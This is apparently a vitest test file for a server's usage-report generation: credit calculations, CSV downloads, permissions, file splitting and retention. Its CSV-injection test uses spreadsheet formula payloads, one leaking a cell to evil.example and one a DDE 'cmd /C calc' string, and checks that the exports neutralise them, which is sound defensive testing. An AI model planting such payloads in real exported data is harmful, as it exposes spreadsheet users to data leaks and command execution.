// Reports (spec 2.4, 4.3): generated from the usage ledger for a day, their gzipped CSV files
// downloaded over HTTP and checked row by row against figures worked out by hand from the price list.
import * as fs from "node:fs";
import * as path from "node:path";
import { gunzipSync } from "node:zlib";
import { parse } from "csv-parse/sync";
import { ALWAYS_ZERO_CREDIT_COLUMNS, CREDIT_ANALYTICS_COLUMNS } from "@asset-delivery/sdk";
import { generateReports, importUsage, type UsageEventInput } from "@asset-delivery/server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { apiRequest, startTestServer, type TestServer } from "../support/server";
import { minimalDeployment } from "./fixtures";

// Days of 2024 (a leap year, so the month boundary is Feb 29 → Mar 1): long before the real clock,
// so no account created by the test existed then and the scheduler leaves those days alone.
let clock = Date.parse("2024-03-03T12:00:00Z");
let server: TestServer;
let key: string;
let photos: string;
let archive: string;

function event(source: () => string, timestamp: string, fields: Partial<UsageEventInput>): UsageEventInput {
  return { timestamp, source_id: source(), path: "/a.jpg", status: 200, bytes: 0, cache_hit: false, response_ms: 10, ...fields };
}

// The ledger, and below the credits it must give (micro-credits in comments):
// standard 1000, advanced 2000, premium 5000, specialized 10000 per render (cache miss, < 400);
// video encoding 20000 per second; cache read 100; origin fetch 200 ("other", only in the total);
// delivery bytes / 2000; storage: distinct origin images' bytes / 50000 per day.
const ledger = () => [
  event(() => photos, "2024-02-29T10:00:00Z", {
    path: "/a.jpg?w=100",
    bytes: 2_000_000,
    render_class: "standard",
    origin_bytes: 5_000_000,
    response_ms: 100,
  }),
  event(() => photos, "2024-03-01T09:00:00Z", {
    path: "/a.jpg?w=200",
    bytes: 1_000_000,
    render_class: "advanced",
    origin_bytes: 5_000_000,
    response_ms: 120,
    referer: "https://shop.example.com/",
    user_agent: "UA1",
  }),
  event(() => photos, "2024-03-01T09:30:00Z", {
    path: "/a.jpg?w=200",
    bytes: 1_000_000,
    cache_hit: true,
    render_class: "advanced",
    response_ms: 10,
  }),
  event(() => photos, "2024-03-01T10:00:00Z", { path: "/missing.jpg", status: 404, render_class: "none", response_ms: 30 }),
  event(() => archive, "2024-03-01T12:00:00Z", {
    path: "/c.jpg",
    bytes: 4_000_000,
    render_class: "specialized",
    origin_bytes: 2_000_000,
    response_ms: 300,
  }),
  event(() => photos, "2024-03-02T08:00:00Z", {
    path: "/b.jpg",
    bytes: 500_000,
    render_class: "premium",
    origin_bytes: 1_000_000,
    response_ms: 200,
  }),
  event(() => photos, "2024-03-02T08:05:00Z", {
    path: "/v.mp4",
    bytes: 3_000_000,
    render_class: "video_encoding",
    video_seconds: 10,
    origin_bytes: 20_000_000,
    response_ms: 900,
  }),
  event(() => archive, "2024-03-02T13:00:00Z", {
    path: "/c.jpg",
    status: 403,
    render_class: "none",
    response_ms: 5,
    referer: "https://evil.example/",
    user_agent: "bot",
  }),
];

async function createSource(name: string): Promise<string> {
  const response = await apiRequest(`${server.url}/api/v1/sources`, {
    method: "POST",
    key: server.adminKey,
    body: { data: { type: "sources", attributes: { name, deployment: minimalDeployment("webfolder") } } },
  });
  expect(response.status).toBe(201);
  return response.body.data.id;
}

const dataDir = () => server.app.appOptions.dataDir;
const generate = (date: string, options: { fileSizeLimit?: number } = {}) =>
  generateReports(server.db, { date, dataDir: dataDir(), now: () => clock, ...options });

async function reportOf(type: string, date: string) {
  const response = await apiRequest(`${server.url}/api/v1/reports?filter[report_type]=${type}&page[size]=100`, { key });
  expect(response.status).toBe(200);
  const report = response.body.data.find((r: any) => r.attributes.report_key === `${type}_${date.replaceAll("-", "")}`);
  expect(report, `${type} of ${date}`).toBeDefined();
  return report;
}

async function download(url: string, downloadKey = key): Promise<Response> {
  return fetch(url, { headers: { authorization: `Bearer ${downloadKey}` } });
}

/** The report's CSV: every file gunzipped and parsed, each file's header checked to be the same. */
async function rowsOf(type: string, date: string): Promise<{ header: string[]; rows: Record<string, string>[] }> {
  const report = await reportOf(type, date);
  let header: string[] | undefined;
  const rows: Record<string, string>[] = [];
  for (const url of report.attributes.files as string[]) {
    const response = await download(url);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/gzip");
    const records: string[][] = parse(gunzipSync(Buffer.from(await response.arrayBuffer())));
    header ??= records[0];
    expect(records[0]).toEqual(header);
    for (const record of records.slice(1)) rows.push(Object.fromEntries(header!.map((column, i) => [column, record[i]!])));
  }
  return { header: header!, rows };
}

const bySource = (rows: Record<string, string>[]) => Object.fromEntries(rows.map((row) => [row.source_id, row]));

beforeAll(async () => {
  server = await startTestServer({ now: () => clock });
  key = server.accountKey(["Analytics"]);
  photos = await createSource("Photos");
  archive = await createSource('Archive, old "2019"');
  expect(
    importUsage(
      server.db,
      ledger()
        .map((e) => JSON.stringify(e))
        .join("\n"),
    ),
  ).toBe(8);
  for (const date of ["2024-02-29", "2024-03-01", "2024-03-02"]) generate(date);
});
afterAll(() => server.close());

describe("report generation", () => {
  it("creates every type of an enterprise account, completed, with spec keys and periods", async () => {
    const response = await apiRequest(`${server.url}/api/v1/reports?page[size]=100`, { key });
    expect(response.body.meta.pagination.totalRecords).toBe(18);
    const daily = await reportOf("credit_analytics_daily", "2024-03-02");
    expect(daily.attributes).toMatchObject({
      completed: true,
      report_type: "credit_analytics_daily",
      report_key: "credit_analytics_daily_20240302",
      period_start: Date.parse("2024-03-02T00:00:00Z") / 1000,
      period_end: Date.parse("2024-03-03T00:00:00Z") / 1000,
    });
    expect(daily.relationships.account.data.type).toBe("accounts");
    for (const type of ["credit_analytics_mtd", "image_analytics", "source_analytics"]) {
      const mtd = await reportOf(type, "2024-03-02");
      expect(mtd.attributes.period_start).toBe(Date.parse("2024-03-01T00:00:00Z") / 1000);
      expect(mtd.attributes.period_end).toBe(Date.parse("2024-03-03T00:00:00Z") / 1000);
    }
    expect(daily.attributes.files).toEqual([`${server.url}/api/v1/reports/${daily.id}/files/1`]);
  });

  it("credit_analytics_daily: the spec's columns, one row per Source, figures from the price list", async () => {
    const { header, rows } = await rowsOf("credit_analytics_daily", "2024-03-01");
    expect(header).toEqual([...CREDIT_ANALYTICS_COLUMNS]);
    expect(rows).toHaveLength(2);
    const row = bySource(rows);
    expect(row[photos]).toMatchObject({
      timestamp: "2024-03-01",
      source_name: "Photos",
      // 2000 render + 200 origin fetch + 100 cache read + 1000 delivery (2 MB) + 100 storage (5 MB)
      total_credits: "0.003400",
      standard_renders_credits: "0.000000",
      advanced_renders_credits: "0.002000",
      storage_credits: "0.000100",
      delivery_bandwidth_credits: "0.001000",
      cache_reads_credits: "0.000100",
    });
    // 10000 specialized + 200 origin fetch + 2000 delivery (4 MB) + 40 storage (2 MB)
    expect(row[archive]).toMatchObject({
      source_name: 'Archive, old "2019"',
      total_credits: "0.012240",
      specialized_transformations_credits: "0.010000",
    });
  });

  it("total_credits includes the unlisted category, so it exceeds the sum of the listed columns", async () => {
    const { rows } = await rowsOf("credit_analytics_daily", "2024-03-02");
    for (const row of rows) {
      const listed = CREDIT_ANALYTICS_COLUMNS.slice(4).reduce((sum, column) => sum + Number(row[column]), 0);
      expect(Number(row.total_credits)).toBeGreaterThanOrEqual(listed - 1e-9);
      for (const column of ALWAYS_ZERO_CREDIT_COLUMNS) expect(row[column]).toBe("0.000000");
    }
    const row = bySource(rows);
    // 5000 premium + 200000 video (10 s) + 2 x 200 origin fetches + 1750 delivery + 420 storage
    expect(row[photos]).toMatchObject({
      total_credits: "0.207570",
      premium_video_encoding_seconds_credits: "0.200000",
      premium_renders_credits: "0.005000",
    });
    expect(Number(row[photos]!.total_credits)).toBeGreaterThan(0.005 + 0.2 + 0.00175 + 0.00042);
    // A Source whose only request failed has a row of zeros.
    expect(row[archive]!.total_credits).toBe("0.000000");
  });

  it("credit_analytics_mtd accumulates from the 1st and resets at the month start", async () => {
    const february = bySource((await rowsOf("credit_analytics_mtd", "2024-02-29")).rows);
    expect(february[photos]!.total_credits).toBe("0.002300"); // 1000 standard + 200 fetch + 1000 delivery + 100 storage
    const first = bySource((await rowsOf("credit_analytics_mtd", "2024-03-01")).rows);
    expect(first[photos]!.total_credits).toBe("0.003400"); // the 1st alone: February is not carried over
    const second = bySource((await rowsOf("credit_analytics_mtd", "2024-03-02")).rows);
    expect(second[photos]).toMatchObject({
      total_credits: "0.210970",
      advanced_renders_credits: "0.002000",
      premium_renders_credits: "0.005000",
      storage_credits: "0.000520",
    });
    expect(second[archive]!.total_credits).toBe("0.012240");
  });

  it("cdn_logs: one row per request in time order, blank referer and user agent when none was sent", async () => {
    const { header, rows } = await rowsOf("cdn_logs", "2024-03-01");
    expect(header).toEqual([
      "timestamp",
      "source_id",
      "source_name",
      "path",
      "origin_image",
      "status",
      "bytes",
      "cache",
      "response_ms",
      "render_class",
      "referer",
      "user_agent",
    ]);
    expect(rows.map((r) => [r.timestamp, r.path, r.status, r.cache])).toEqual([
      ["2024-03-01T09:00:00.000Z", "/a.jpg?w=200", "200", "MISS"],
      ["2024-03-01T09:30:00.000Z", "/a.jpg?w=200", "200", "HIT"],
      ["2024-03-01T10:00:00.000Z", "/missing.jpg", "404", "MISS"],
      ["2024-03-01T12:00:00.000Z", "/c.jpg", "200", "MISS"],
    ]);
    expect(rows[0]).toMatchObject({ origin_image: "/a.jpg", referer: "https://shop.example.com/", user_agent: "UA1" });
    expect(rows[2]).toMatchObject({ referer: "", user_agent: "" });
  });

  it("image_analytics: month-to-date metrics per origin image", async () => {
    const { rows } = await rowsOf("image_analytics", "2024-03-02");
    const of = (source: string, image: string) => rows.find((r) => r.source_id === source && r.origin_image === image);
    expect(rows).toHaveLength(5);
    expect(of(photos, "/a.jpg")).toMatchObject({
      total_requests: "2",
      bandwidth_bytes: "2000000",
      cache_hits: "1",
      cache_misses: "1",
      errors_4xx: "0",
      avg_response_ms: "65.0",
    });
    expect(of(photos, "/missing.jpg")).toMatchObject({ total_requests: "1", errors_4xx: "1" });
    expect(of(archive, "/c.jpg")).toMatchObject({
      total_requests: "2",
      bandwidth_bytes: "4000000",
      errors_4xx: "1",
      avg_response_ms: "152.5",
    });
  });

  it("mild_errors: the day's 4xx per image and status", async () => {
    const { rows } = await rowsOf("mild_errors", "2024-03-02");
    expect(rows).toEqual([
      {
        date: "2024-03-02",
        source_id: archive,
        source_name: 'Archive, old "2019"',
        origin_image: "/c.jpg",
        status: "403",
        requests: "1",
        first_seen: "2024-03-02T13:00:00.000Z",
        last_seen: "2024-03-02T13:00:00.000Z",
        last_referer: "https://evil.example/",
        last_user_agent: "bot",
      },
    ]);
  });

  it("source_analytics: month-to-date metrics per Source", async () => {
    const row = bySource((await rowsOf("source_analytics", "2024-03-02")).rows);
    expect(row[photos]).toMatchObject({
      total_requests: "5",
      total_origin_images: "4",
      total_bandwidth_bytes: "5500000",
      cache_hit_ratio: "0.2000",
      avg_response_ms: "252.0",
      renders: "3",
      errors_4xx: "1",
      errors_5xx: "0",
    });
    expect(row[archive]).toMatchObject({ total_requests: "2", total_origin_images: "1", renders: "1", errors_4xx: "1" });
  });

  it("is idempotent, and an interrupted report is generated again byte for byte", async () => {
    const report = await reportOf("cdn_logs", "2024-03-01");
    const before = Buffer.from(await (await download(report.attributes.files[0])).arrayBuffer());
    expect(generate("2024-03-01").flatMap((r) => r.reports.map((x) => x.id))).toContain(report.id);
    server.db.prepare("UPDATE reports SET completed = 0 WHERE id = ?").run(report.id);
    expect((await reportOf("cdn_logs", "2024-03-01")).attributes).toMatchObject({ completed: false, files: [] });
    generate("2024-03-01");
    const after = await reportOf("cdn_logs", "2024-03-01");
    expect(after.attributes.completed).toBe(true);
    expect(Buffer.from(await (await download(after.attributes.files[0])).arrayBuffer()).equals(before)).toBe(true);
  });

  it("splits a report above the file size limit, each file with its header and within the limit", async () => {
    // 300 events on one day, for a cdn_logs report of ~300 rows.
    const many = Array.from({ length: 300 }, (_, i) =>
      JSON.stringify(
        event(() => photos, new Date(Date.parse("2024-02-20T00:00:00Z") + i * 60_000).toISOString(), {
          path: `/img-${i}.jpg?w=${i}`,
          user_agent: `agent ${i * 7919}`,
        }),
      ),
    );
    importUsage(server.db, many.join("\n"));
    const limit = 2_000;
    generate("2024-02-20", { fileSizeLimit: limit });
    const report = await reportOf("cdn_logs", "2024-02-20");
    expect(report.attributes.files.length).toBeGreaterThan(2);
    for (const url of report.attributes.files) {
      const response = await download(url);
      expect(Number(response.headers.get("content-length"))).toBeLessThanOrEqual(limit);
      // Within the limit decompressed too, as a client bounding the CSV it reads expects.
      expect(gunzipSync(Buffer.from(await response.arrayBuffer())).length).toBeLessThanOrEqual(limit);
      expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="cdn_logs_20240220_\d+\.csv\.gz"$/);
    }
    const { rows } = await rowsOf("cdn_logs", "2024-02-20");
    expect(rows.map((r) => r.path)).toEqual(Array.from({ length: 300 }, (_, i) => `/img-${i}.jpg?w=${i}`));
  });

  it("refuses a day that is not over, or past retention, naming the rule", () => {
    expect(() => generate("2024-03-03")).toThrow(/date: 2024-03-03 is not over yet/);
    expect(() => generate("2023-11-01")).toThrow(/retention/);
    expect(() => generate("2024-02-30")).toThrow(/date: must be a calendar date/);
  });
});

describe("report downloads", () => {
  it("needs the Analytics permission and the owning account", async () => {
    const report = await reportOf("cdn_logs", "2024-03-01");
    const url = report.attributes.files[0];
    expect((await download(url, server.accountKey(["Sources"]))).status).toBe(403);
    expect((await download(url, server.accountKey(["Analytics"], "someone-else"))).status).toBe(404);
    expect(
      (await apiRequest(`${server.url}/api/v1/reports/${report.id}`, { key: server.accountKey(["Analytics"], "someone-else") })).status,
    ).toBe(404);
    expect((await fetch(url)).status).toBe(401);
    expect((await download(url.replace(/\/1$/, "/9"))).status).toBe(404);
    expect((await download(url.replace(/\/1$/, "/x"))).status).toBe(404);
  });
});

describe("CSV injection", () => {
  it("neutralises cells a spreadsheet would run as a formula, and keeps numbers as they are", async () => {
    const formula = await createSource('=HYPERLINK("https://evil.example/?leak="&A1,"Click")');
    const day = "2024-02-21";
    const lines = [
      event(() => formula, `${day}T10:00:00Z`, {
        path: "/x.jpg",
        status: 404,
        render_class: "none",
        referer: "@SUM(1+1)*cmd|' /C calc'!A0",
        user_agent: "+1+1",
      }),
      event(() => formula, `${day}T11:00:00Z`, { path: "/y.jpg", referer: "-2+3", user_agent: "\tTAB" }),
    ];
    expect(importUsage(server.db, lines.map((e) => JSON.stringify(e)).join("\n"))).toBe(2);
    generate(day);
    const logs = (await rowsOf("cdn_logs", day)).rows.filter((r) => r.source_id === formula);
    expect(logs.map((r) => [r.source_name, r.referer, r.user_agent])).toEqual([
      [`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`, "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+1"],
      [`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`, "'-2+3", "'\tTAB"],
    ]);
    // Numbers are data: a response time or a byte count is never prefixed.
    expect(logs.every((r) => /^\d+$/.test(r.bytes!) && /^\d+$/.test(r.response_ms!))).toBe(true);
    const errors = (await rowsOf("mild_errors", day)).rows.filter((r) => r.source_id === formula);
    expect(errors).toEqual([
      expect.objectContaining({
        source_name: `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
        last_referer: "'@SUM(1+1)*cmd|' /C calc'!A0",
      }),
    ]);
  });
});

describe("retention", () => {
  it("purges reports and their files 90 days after finalization, at startup", async () => {
    const old = await reportOf("cdn_logs", "2024-03-01");
    const kept = await reportOf("cdn_logs", "2024-03-02");
    const oldDir = path.join(dataDir(), "reports", old.id);
    expect(fs.existsSync(oldDir)).toBe(true);
    const { dbPath } = server;
    await server.close({ keepData: true });
    // 2024-03-01 was finalized at 2024-03-02T00:00Z; 90 days later is 2024-05-31T00:00Z.
    clock = Date.parse("2024-05-31T12:00:00Z");
    const restarted = await startTestServer({ dbPath, now: () => clock });
    try {
      const response = await apiRequest(`${restarted.url}/api/v1/reports?page[size]=100`, { key });
      const keys = response.body.data.map((r: any) => r.attributes.report_key);
      expect(keys).not.toContain("cdn_logs_20240301");
      expect(keys).not.toContain("credit_analytics_mtd_20240229");
      expect(keys).toContain(kept.attributes.report_key);
      expect(fs.existsSync(oldDir)).toBe(false);
    } finally {
      await restarted.close();
      fs.rmSync(path.dirname(dbPath), { recursive: true, force: true });
    }
    server = await startTestServer(); // afterAll closes a running server
  });
});
